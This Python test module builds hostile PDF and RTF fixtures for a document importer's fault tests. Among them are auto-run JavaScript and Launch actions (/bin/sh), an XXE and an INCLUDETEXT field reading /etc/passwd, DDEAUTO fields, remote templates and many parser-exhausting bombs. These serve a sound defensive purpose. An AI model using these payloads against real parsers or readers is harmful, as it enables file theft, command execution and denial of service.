"""Prints: PDF files that loop, swell, run and lie; and rich text."""

import zlib
from collections.abc import Iterator, Sequence
from functools import partial

from briefwright.domain.errors import ImportFault
from tests.faults.hostile.bad import ELSEWHERE, GOOD, SECRET, Bad, either, raw, refused, taken
from tests.unit.importers.swelling import swelling_pdf

_FONT = "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
_SHOWN = f"BT /F1 11 Tf 40 700 Td ({GOOD}) Tj ET"


def stream(data: bytes | str, more: str = "") -> bytes:
    data = raw(data)
    return f"<</Length {len(data)}{more}>>\nstream\n".encode() + data + b"\nendstream"


def print_of(objects: Sequence[bytes | str], trailer: str = "", start: int | None = None) -> bytes:
    """Return a PDF of these objects; the first is its catalogue."""
    file, places = b"%PDF-1.7\n", []
    for number, words in enumerate(objects, start=1):
        places.append(len(file))
        file += b"%d 0 obj\n" % number + raw(words) + b"\nendobj\n"
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    count = len(objects) + 1
    head = f"xref\n0 {count}\n0000000000 65535 f \n".encode()
    end = f"trailer\n<</Size {count}/Root 1 0 R{trailer}>>\nstartxref\n".encode()
    return file + head + table + end + b"%d\n%%%%EOF" % (len(file) if start is None else start)


def one_page(
    contents: bytes | str = _SHOWN,
    catalogue: str = "",
    leaf: str = "",
    more: Sequence[bytes | str] = (),
    filters: str = "",
    font: str = _FONT,
    trailer: str = "",
) -> bytes:
    """Return a PDF of one page; objects of one's own begin at number 6."""
    return print_of(
        [
            f"<</Type/Catalog/Pages 2 0 R{catalogue}>>",
            "<</Type/Pages/Kids[3 0 R]/Count 1>>",
            f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>{leaf}>>",
            stream(contents, filters),
            font,
            *more,
        ],
        trailer,
    )


def bad_prints() -> Iterator[Bad]:
    """Yield one after the other."""
    yield from _active()
    yield from _looping()
    yield from _swelling()
    yield from _lying()


def bad_rich_texts() -> Iterator[Bad]:
    """Yield one after the other."""
    yield from _rich_stalling()
    yield from _rich_hiding()


def _active() -> Iterator[Bad]:
    yield taken(
        "a print that runs a script",
        "script.pdf",
        one_page(catalogue="/OpenAction<</S/JavaScript/JS(app.launchURL('" + ELSEWHERE + "/'))>>"),
    )
    yield taken(
        "a print that starts a program",
        "launch.pdf",
        one_page(catalogue="/OpenAction<</S/Launch/F(/bin/sh)>>"),
    )
    yield taken(
        "a print that opens an address",
        "address.pdf",
        one_page(catalogue="/OpenAction<</S/URI/URI(" + ELSEWHERE + "/)>>"),
    )
    yield taken(
        "a print that sends a form",
        "form.pdf",
        one_page(leaf="/AA<</O<</S/SubmitForm/F(" + ELSEWHERE + "/)>>>>"),
    )
    yield taken(
        "a print that brings a file",
        "file.pdf",
        one_page(
            catalogue="/Names<</EmbeddedFiles<</Names[(a) 6 0 R]>>>>",
            more=["<</Type/Filespec/F(a.exe)/EF<</F 7 0 R>>>>", stream("MZ")],
        ),
    )
    yield taken(
        "a stream that lies in another file",
        "outside.pdf",
        one_page(
            leaf="/Metadata 6 0 R", more=["<</Length 0/F(/etc/passwd)>>\nstream\n\nendstream"]
        ),
        lost=SECRET,
    )
    yield taken(
        "a form of XML",
        "xfa.pdf",
        one_page(
            catalogue="/AcroForm<</XFA 6 0 R>>",
            more=[stream('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>')],
        ),
        lost=SECRET,
    )


def _looping() -> Iterator[Bad]:
    pages = "<</Type/Catalog/Pages 2 0 R>>"
    yield either(
        "pages that hold themselves",
        "pages.pdf",
        lambda: print_of([pages, "<</Type/Pages/Kids[2 0 R 2 0 R]/Count 99>>"]),
    )
    yield either(
        "a parent that is its own child",
        "parent.pdf",
        lambda: print_of(
            [
                pages,
                "<</Type/Pages/Kids[3 0 R]/Count 2>>",
                "<</Type/Pages/Parent 3 0 R/Kids[2 0 R]/Count 2>>",
            ]
        ),
    )
    yield either("an object that is itself", "itself.pdf", lambda: print_of(["1 0 R"]))
    yield either(
        "a length that is its own stream",
        "length.pdf",
        lambda: print_of(
            [
                pages,
                "<</Type/Pages/Kids[3 0 R]/Count 1>>",
                "<</Type/Page/Parent 2 0 R/Contents 4 0 R>>",
                f"<</Length 4 0 R>>\nstream\n{_SHOWN}\nendstream",
            ]
        ),
    )
    form = "<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>"
    yield either(
        "a drawing that draws itself",
        "drawing.pdf",
        lambda: one_page(
            f"{_SHOWN} /X Do",
            leaf="/Resources<</Font<</F1 5 0 R>>/XObject<</X 6 0 R>>>>",
            more=[f"{form}/Length 5>>\nstream\n/X Do\nendstream"],
        ),
    )
    yield either(
        "a table that leads back to itself", "table.pdf", lambda: one_page(trailer="/Prev 9")
    )
    yield either(
        "a table that stands nowhere",
        "nowhere.pdf",
        lambda: print_of([pages, "<</Type/Pages/Kids[]/Count 0>>"], start=10**9),
    )
    wide = [
        f"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X {n + 7} 0 R>>>>/Length 59>>\nstream\n{'/X Do ' * 9}     \nendstream"
        for n in range(12)
    ]
    yield either(
        "drawings of nine drawings, twelve deep",
        "ninefold.pdf",
        lambda: one_page(
            f"{_SHOWN} /X Do",
            leaf="/Resources<</Font<</F1 5 0 R>>/XObject<</X 6 0 R>>>>",
            more=[
                *wide,
                "<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Length 0>>\nstream\n\nendstream",
            ],
        ),
    )
    outline = [
        "<</First 7 0 R/Last 7 0 R/Count 9>>",
        "<</Title(a)/Next 7 0 R/First 7 0 R/Parent 6 0 R>>",
    ]
    yield taken(
        "an outline without an end",
        "outline.pdf",
        one_page(catalogue="/Outlines 6 0 R", more=outline),
    )
    yield either(
        "arrays a hundred thousand deep",
        "arrays.pdf",
        lambda: one_page(leaf="/X " + "[" * 100_000 + "]" * 100_000),
    )
    yield either(
        "dictionaries a hundred thousand deep",
        "names.pdf",
        lambda: one_page("<<" * 100_000 + _SHOWN),
    )


def _swelling() -> Iterator[Bad]:
    yield either("a page that swells twice over", "swell.pdf", lambda: swelling_pdf(600 << 20), 500)
    yield either(
        "a stream packed fifty times",
        "filters.pdf",
        lambda: one_page(zlib.compress(raw(_SHOWN)), filters=f"/Filter[{'/FlateDecode' * 50}]"),
    )
    yield either(
        "a picture of a trillion points",
        "picture.pdf",
        lambda: one_page(
            f"{_SHOWN} /X Do",
            leaf="/Resources<</Font<</F1 5 0 R>>/XObject<</X 6 0 R>>>>",
            more=[
                stream(
                    zlib.compress(bytes(1 << 20)),
                    "/Type/XObject/Subtype/Image/Width 1000000/Height 1000000/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/FlateDecode",
                )
            ],
        ),
    )
    yield either(
        "a million words on one page",
        "words.pdf",
        lambda: one_page("BT /F1 4 Tf " + "10 10 Td (ab cd) Tj " * 150_000 + "ET"),
    )
    yield either(
        "a dot of ten thousand fonts",
        "fonts.pdf",
        lambda: one_page("BT " + "/F1 8 Tf (x) Tj /F2 9 Tf (y) Tj " * 30_000 + "ET"),
    )
    leaves = "3 0 R " * 20_000
    yield either(
        "twenty thousand pages",
        "leaves.pdf",
        lambda: print_of(
            [
                "<</Type/Catalog/Pages 2 0 R>>",
                f"<</Type/Pages/Kids[{leaves}]/Count 20000>>",
                "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
                stream(_SHOWN),
                _FONT,
            ]
        ),
    )
    yield either(
        "a million pages are told",
        "million.pdf",
        lambda: one_page().replace(b"/Count 1>>", b"/Count 1000000>>"),
    )
    yield either(
        "properties without an end",
        "prism.pdf",
        lambda: one_page(leaf="/Metadata 6 0 R", more=[stream("<prism:coverDate " * 300_000)]),
    )
    dense = (
        "BT /F1 6 Tf 20 800 Td 7 TL "
        + "(The board of Larne met again and again for all the quays of its harbour in the north of it) Tj T* "
        * 110
        + "ET"
    )
    yield either(
        "two hundred dense pages",
        "dense.pdf",
        lambda: print_of(
            [
                "<</Type/Catalog/Pages 2 0 R>>",
                f"<</Type/Pages/Kids[{'3 0 R ' * 200}]/Count 200>>",
                "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>",
                stream(dense),
                _FONT,
            ]
        ),
    )


def _lying() -> Iterator[Bad]:
    yield taken(
        "a page without size", "sizeless.pdf", one_page().replace(b"/MediaBox[0 0 595 842]", b"")
    )
    yield either(
        "a page of no size", "flat.pdf", lambda: one_page().replace(b"[0 0 595 842]", b"[0 0 0 0]")
    )
    yield either(
        "a page of endless size",
        "wide.pdf",
        lambda: one_page().replace(b"[0 0 595 842]", b"[-1e38 -1e38 1e38 1e38]"),
    )
    yield either(
        "type of endless size", "huge.pdf", lambda: one_page(_SHOWN.replace("11 Tf", "1e30 Tf"))
    )
    yield either(
        "places beyond all pages",
        "beyond.pdf",
        lambda: one_page(_SHOWN.replace("40 700", "1e38 -1e38")),
    )
    yield refused(
        "a font whose letters mean nothing",
        "letters.pdf",
        one_page(
            f"BT /F1 9 Tf 9 9 Td <{'0001000200030004' * 20}> Tj ET",
            font="<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/DescendantFonts[6 0 R]>>",
            more=[
                "<</Type/Font/Subtype/CIDFontType2/BaseFont/A/CIDSystemInfo<</Registry(A)/Ordering(B)/Supplement 0>>>>"
            ],
        ),
    )
    mapped = "/CIDInit /ProcSet findresource begin begincmap 1 beginbfrange <00><ff><D800> endbfrange endcmap"
    yield either(
        "a font that maps to halves of letters",
        "halves.pdf",
        lambda: one_page(font=_FONT.replace(">>", "/ToUnicode 6 0 R>>"), more=[stream(mapped)]),
    )
    endless = "1 beginbfrange <0000><ffff><0041> endbfrange " * 3_000
    yield either(
        "a font that maps without an end",
        "maps.pdf",
        lambda: one_page(font=_FONT.replace(">>", "/ToUnicode 6 0 R>>"), more=[stream(endless)]),
    )
    yield taken(
        "a title of halves of letters",
        "title.pdf",
        one_page(
            trailer="/Info 6 0 R", more=["<</Title<FEFFD800004100000008DC00>/Author<FEFFDFFF>>>"]
        ),
    )
    yield refused(
        "a lock that nobody knows",
        "lock.pdf",
        one_page(trailer="/Encrypt<</Filter/Standard/V 99/R 99/O()/U()/P 0>>/ID[(a)(b)]"),
    )
    yield refused("a page without words", "blank.pdf", one_page("0 0 m"), ImportFault.NO_TEXT)
    yield refused("only the sign is there", "sign.pdf", b"%PDF-1.7\n%%EOF", ImportFault.BROKEN)
    yield refused(
        "noise behind the sign",
        "noise.pdf",
        b"%PDF-1.4\n" + bytes(range(256)) * 400,
        ImportFault.BROKEN,
    )
    yield refused(
        "a page of the web named as a print", "page.pdf", raw(f"<p>{GOOD}"), ImportFault.MISNAMED
    )
    yield either("the sign stands late", "late.pdf", lambda: b"\n" * 900 + one_page())
    yield either("the end is cut off", "cut.pdf", lambda: one_page()[:-200])


def _rich(body: str, head: str = "\\ansi") -> bytes:
    return f"{{\\rtf1{head} {GOOD}\\par {body}}}".encode("latin-1", "replace")


def _rich_stalling() -> Iterator[Bad]:
    bodies = {
        "groups without an end": "{" * 500_000,
        "ends without a group": "}" * 500_000,
        "a code of a megabyte": "\\" + "a" * 1_000_000,
        "a number of a megabyte": "\\fs" + "9" * 1_000_000,
        "codes by the hundred thousand": "\\b\\i0\\ul" * 150_000,
        "letters by their numbers": "\\u1078?" * 200_000,
        "halves of letters": "\\u-10179?" * 100_000,
        "letters in hexadecimal": "\\'e9" * 250_000,
        "half of a letter in hexadecimal": "\\'" * 300_000,
        "binary data longer than the file": "\\bin2147483647 " + "x" * 1000,
        "binary data of less than nothing": "\\bin-9 x" * 50_000,
        "cells": "\\intbl x\\cell" * 100_000 + "\\row",
        "tables in tables": "\\itap9\\intbl x\\nestcell\\nestrow" * 50_000,
        "objects": "{\\object\\objemb{\\*\\objdata " + "d0cf11e0" * 300_000 + "}}",
        "pictures": "{\\pict\\pngblip " + "89504e47" * 300_000 + "}",
        "fields in fields": '{\\field{\\*\\fldinst INCLUDETEXT "file:///etc/passwd"}{\\fldrslt '
        * 20_000,
        "notes in notes": "{\\footnote x" * 20_000,
        "a title of ten thousand": "{\\info" + "{\\title " * 50_000 + "}",
        "fonts": "{\\fonttbl" + "{\\f1" * 50_000 + "}",
        "fonts without an end": "{\\fonttbl" + "{\\f0\\fcharset204 Arial" * 20_000,
        "tables of fonts": "{a}" + "\\fonttbl{\\f0\\fcharset204 Arial" * 20_000,
        "styles": "{\\stylesheet" + "{\\s1 heading 1" * 50_000 + "}",
        "items": "{\\listtext a\\tab}" * 50_000,
        "back strokes": "\\\\" * 500_000 + "\\",
        "skipping": "\\uc99999999\\u65?" * 50_000,
    }
    for number, (what, body) in enumerate(bodies.items()):
        yield either(f"rich text: {what}", f"stall{number}.rtf", partial(_rich, body), 600)


def _rich_hiding() -> Iterator[Bad]:
    yield taken("hidden words", "hidden.rtf", _rich("{\\v Hidden words.}"), lost="Hidden words")
    yield taken(
        "words of a field",
        "field.rtf",
        _rich("{\\field{\\*\\fldinst DDEAUTO cmd}{\\fldrslt Seen.}}"),
        lost="DDEAUTO",
    )
    yield taken(
        "another template",
        "template.rtf",
        _rich("{\\*\\template " + ELSEWHERE + "/a.dotm}"),
        lost="dotm",
    )
    yield taken(
        "controls", "controls.rtf", _rich("\\u1?\\u0?\\u11?\\u27?\\'00\\'1b end"), lost="\x1b"
    )
    yield taken(
        "a half of a letter in the title",
        "title.rtf",
        _rich("", "\\ansi{\\info{\\title A\\u-10179?}{\\author \\u-8704?}}"),
    )
    for number, page in enumerate(("0", "99999", "65000", "37", "1200", "65001")):
        yield taken(
            f"the code page {page}",
            f"page{number}.rtf",
            _rich("caf\\'e9", f"\\ansi\\ansicpg{page}"),
            kept="Larne" if page not in {"37", "1200"} else "",
        )
    yield refused("a page named as rich text", "page.rtf", raw(f"<p>{GOOD}"), ImportFault.MISNAMED)
    yield refused("rich text of nothing", "empty.rtf", b"{\\rtf1}", ImportFault.NO_TEXT)
